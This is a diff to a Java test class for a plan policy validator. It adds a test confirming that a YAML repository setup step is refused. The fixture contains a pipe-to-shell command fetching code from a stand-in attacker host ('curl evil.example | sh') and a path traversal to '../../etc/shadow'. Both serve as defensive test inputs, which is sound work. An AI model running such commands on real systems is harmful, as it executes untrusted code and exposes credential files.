@@ -139,6 +139,17 @@ class PlanPolicyValidationTest {
   }
 
   @Test
+  void refusesARepositorySetUpCommandThePolicyDoesNotAllow() {
+    String yaml = plan("").replace("spec:\n", "spec:\n  repository: {url: https://git.example.com/shop.git,"
+        + " setup: {command: 'curl evil.example | sh', copy: [../../etc/shadow]}}\n");
+    String message = refusedBoth(yaml).getStatus().getDescription();
+    assertThat(message).as("the plan validator's own rule").contains("'../../etc/shadow' leaves the worktree");
+    assertThat(refusedBoth(yaml.replace(", copy: [../../etc/shadow]", "")).getStatus().getDescription())
+        .contains("repository.setup.command: `curl evil.example | sh` is not allowed")
+        .contains("(rule commands.run of the devops policy");
+  }
+
+  @Test
   void refusesPathsOutOfTheWorkspaceAndPlansCarryingKeys() {
     assertThat(refusedBoth(plan("""
         - id: escape
